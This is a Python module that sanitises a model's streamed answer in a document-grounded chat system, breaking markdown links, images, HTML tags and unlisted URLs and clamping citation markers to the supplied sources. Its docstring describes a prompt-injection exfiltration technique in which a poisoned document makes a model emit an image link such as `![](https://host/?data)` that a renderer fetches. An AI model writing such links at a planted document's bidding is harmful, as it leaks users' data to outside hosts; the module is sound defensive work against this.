"""Keeps a model's text from reaching out of the page, and its citation markers within what it was given.

A poisoned document can make a model write `![](https://host/?data)`, which a renderer fetches unasked
(the EchoLeak class, CVE-2025-32711). Here every construct that could load or link anything is broken by one
character, whatever else surrounds it, so no markdown parser sees it: `](`, `]:` and `<tag`. Bare addresses
go unless the documents hold them verbatim. The work is done on the stream itself: what was shown is what stays.
"""

from __future__ import annotations

import re

from chains.citations import LONGEST_MARKER, MARKER, expand_marker

ABSTENTION_TOKEN = "NOT_IN_DOCUMENTS"  # noqa: S105 - a word of the prompt, no secret
NOT_FOUND = "Not in your documents"
UNKNOWN_SOURCE = "[?]"
LINK_REMOVED = "(link removed)"

# What markdown renderers link without being asked (GFM's autolink extension).
_ADDRESS = r"(?:https?://|ftp://|www\.)[^\s<>\[\]`]+"
_RISKY = re.compile(
    rf"(?P<marker>{MARKER})|(?P<close>\])(?=[(:])|(?P<tag><)(?=[A-Za-z/!?])|(?P<url>{_ADDRESS})"
    rf"|(?P<token>{ABSTENTION_TOKEN})",
    re.I,
)
_STARTS = ("https://", "http://", "ftp://", "www.", ABSTENTION_TOKEN)
_BEGINNINGS = "|".join(
    sorted({re.escape(word[:n]) for word in _STARTS for n in range(1, len(word) + 1)}, key=len, reverse=True)
)
# What may still become something else once more text arrives.
_UNDECIDED = re.compile(
    rf"(?:[\[【][^\]】\n]{{0,{LONGEST_MARKER}}}[\]】]?|\]|<|{_ADDRESS}|{_BEGINNINGS})\Z", re.I
)
_SENTENCE_END = ".,;:!?)}'\"*_"


def neutralise(text: str, *, sources: int | None, allowed_text: str = "") -> str:
    """The text with markers within 1..sources, and nothing that loads or links.

    Markers become `[1][2]`; a number outside the range becomes `[?]`. With `sources=None` brackets are
    plain text. Addresses that `allowed_text` holds verbatim stay.
    """

    def replaced(match: re.Match[str]) -> str:
        if match["marker"]:
            following = text[match.end() : match.end() + 1]
            space = " " if following and following in "(:" else ""
            return _marker(match, text, sources) + space
        if match["token"]:
            return match[0] if sources is None else NOT_FOUND
        if match["url"]:
            return _address(match["url"], allowed_text)
        return match[0] + " "

    return _RISKY.sub(replaced, text)


def _marker(match: re.Match[str], text: str, sources: int | None) -> str:
    if sources is None or _in_code(text[: match.start()]):
        return match[0]
    numbers = expand_marker(match["marker"])
    known = [n for n in numbers if 1 <= n <= sources]
    unknown = UNKNOWN_SOURCE if len(known) < len(numbers) else ""
    return "".join(f"[{n}]" for n in known) + unknown


def _in_code(before: str) -> bool:
    """Whether an odd fence or an odd backtick stands open at the end of `before`."""
    if len(re.findall(r"^\s*```", before, re.MULTILINE)) % 2:
        return True
    return before.rpartition("\n")[2].replace("```", "").count("`") % 2 == 1


def _address(found: str, allowed_text: str) -> str:
    bare = found.rstrip(_SENTENCE_END)
    tail = found[len(bare) :]
    allowed = re.search(re.escape(bare) + r"(?![^\s<>()\[\]\"',;.])", allowed_text) if bare else None
    return (bare if allowed else LINK_REMOVED) + tail


class SafeStream:
    """`neutralise` over text that arrives in pieces: the pieces given out add up to `neutralise(whole)`."""

    def __init__(self, *, sources: int | None, allowed_text: str = "") -> None:
        self._sources = sources
        self._allowed = allowed_text
        self._raw = ""
        self._given = ""

    @property
    def raw(self) -> str:
        """What the model wrote, unchanged."""
        return self._raw

    @property
    def text(self) -> str:
        """What was given out so far."""
        return self._given

    def feed(self, delta: str) -> str:
        """Takes the next piece; returns what is safe to show now, possibly nothing."""
        self._raw += delta
        undecided = _UNDECIDED.search(self._raw)
        return self._give(self._raw[: undecided.start()] if undecided else self._raw)

    def close(self) -> str:
        """The rest, once nothing more will come."""
        return self._give(self._raw)

    def _give(self, settled: str) -> str:
        safe = neutralise(settled, sources=self._sources, allowed_text=self._allowed)
        new = safe[len(self._given) :]
        self._given = safe
        return new
